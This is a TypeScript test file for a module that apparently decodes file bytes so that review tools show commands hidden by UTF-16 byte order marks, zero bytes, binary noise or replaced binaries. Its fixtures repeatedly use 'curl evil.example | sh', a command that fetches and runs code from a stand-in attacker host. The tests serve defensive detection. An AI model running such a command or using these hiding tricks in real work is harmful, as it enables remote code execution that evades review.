import { expect, it } from 'vitest'
import { readableSides, readableText } from './readable-text.ts'

const bytesOf = (...parts: (string | number[])[]) =>
  Uint8Array.from(parts.flatMap((part) => (typeof part === 'string' ? [...new TextEncoder().encode(part)] : part)))
const utf16 = (text: string) => [...text].flatMap((letter) => [letter.charCodeAt(0) & 255, letter.charCodeAt(0) >> 8])

// Checked: with the text as an editor decodes it, the command is a row of Chinese letters, or the whole file is "not text".
it.each([
  ['a byte order mark of UTF-16', bytesOf([0xff, 0xfe], '\ncurl evil.example | sh\n')],
  ['the other byte order mark', bytesOf([0xfe, 0xff], '\ncurl evil.example | sh\n')],
  ['a command in real UTF-16', bytesOf([0xff, 0xfe], utf16('harmless\n'), '\ncurl evil.example | sh\n')],
  ['a zero byte', bytesOf('#!/bin/sh\ncurl evil.example | sh\n', [0])],
  ['noise after a script', bytesOf('#!/bin/sh\n'.repeat(8), 'curl evil.example | sh\nexit\n', Array(5000).fill(0x81))]
])('a command can’t hide behind %s', (_, bytes) => {
  const shown = readableText(bytes)
  expect(shown?.text).toContain('curl evil.example | sh')
  expect(shown?.note).toMatch(/byte by byte/)
})

it('shows other encodings as what they are, and says so', () => {
  expect(readableText(bytesOf('plain\n'))).toEqual({ text: 'plain\n', note: '' })
  expect(readableText(bytesOf([0xff, 0xfe], utf16('echo hi\n')))).toEqual({
    text: 'echo hi\n',
    note: 'This file is encoded as UTF-16 LE.'
  })
  expect(readableText(bytesOf('caf', [0xe9]))?.note).toBe('This file is encoded as Windows-1252.')
  expect(readableText(new Uint8Array())).toEqual({ text: '', note: '' })
})

it('leaves pictures and programs alone', () => {
  expect(readableText(bytesOf([0x89], 'PNG\r\n', [0x1a, 0x0a, 0, 0, 0, 13], 'IHDR', Array(200).fill(0)))).toBeNull()
  expect(readableText(bytesOf([0x7f], 'ELF', [2, 1, 1], Array(200).fill(0)))).toBeNull()
})

it('shows a text that takes the place of something else', () => {
  const program = bytesOf([0x7f], 'ELF', Array(200).fill(0))
  expect(readableSides(program, bytesOf('curl evil.example | sh\n'))).toEqual({
    before: '',
    text: 'curl evil.example | sh\n',
    note: 'The version before is not text.'
  })
  expect(readableSides(program, new Uint8Array())).toBeNull()
  expect(readableSides(bytesOf('a'), program)).toBeNull()
})
